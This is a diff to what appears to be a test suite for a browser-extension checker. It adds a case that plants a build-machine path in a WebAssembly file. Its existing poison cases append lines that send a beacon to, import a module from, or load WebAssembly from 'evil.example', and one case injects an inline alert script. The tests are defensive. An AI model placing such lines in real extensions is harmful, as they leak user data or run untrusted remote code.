@@ -83,6 +83,10 @@ const POISONS = [
   ['sendBeacon', append('content/banner.js', "navigator.sendBeacon('https://evil.example/', 'x');"), /sendBeacon/],
   ['dynamic import', append('background/background.js', "import('https://evil.example/m.js');"), /dynamic import/],
   ['wasm loaded from elsewhere', append('popup/popup.js', "wasm_bindgen({ module_or_path: 'https://evil.example/x.wasm' });"), /module_or_path: ext\.url/],
+  ["a build machine's path in the WebAssembly", (dir) => {
+    const p = join(dir, 'core', 'widerspruch_bg.wasm');
+    writeFileSync(p, Buffer.concat([readFileSync(p), Buffer.from('/home/builder/.cargo/registry/src/x.rs')]));
+  }, /widerspruch_bg\.wasm:0: names a path of the machine that built it/],
   ['inline script', (dir) => {
     const p = join(dir, 'popup', 'popup.html');
     writeFileSync(p, readFileSync(p, 'utf8').replace('</body>', '<script>alert(1)</script></body>'));
